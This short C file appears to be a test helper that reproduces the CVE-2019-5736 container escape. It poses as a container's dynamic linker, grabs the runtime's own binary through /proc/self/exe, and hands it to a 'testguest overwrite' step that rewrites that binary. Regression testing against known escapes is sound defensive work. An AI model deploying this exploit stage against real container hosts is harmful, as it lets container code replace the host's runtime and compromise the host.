/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exeguest: in the place of the dynamic linker of a container. The kernel starts it for every
 * program that wants that linker, so also for a runtime that a process inside executes by
 * /proc/self/exe: then code of the container's runs with the runtime's file as its own. It opens
 * that file and executes `testguest overwrite FD`, which waits until the file is no program any
 * more and writes to it (CVE-2019-5736).
 *
 * It begins without a C library set up: nothing here may use thread-local storage, as errno does.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>
#include <unistd.h>

enum {
	FD = 20,
};

void _start(void);

void _start(void)
{
	static const char *const argv[] = { "testguest", "overwrite", "20", NULL };
	static const char *const none[] = { NULL };
	long fd = syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_PATH);

	syscall(SYS_dup3, fd, FD, 0);
	syscall(SYS_execve, "/bin/testguest", argv, none);
	syscall(SYS_exit_group, 1);
}
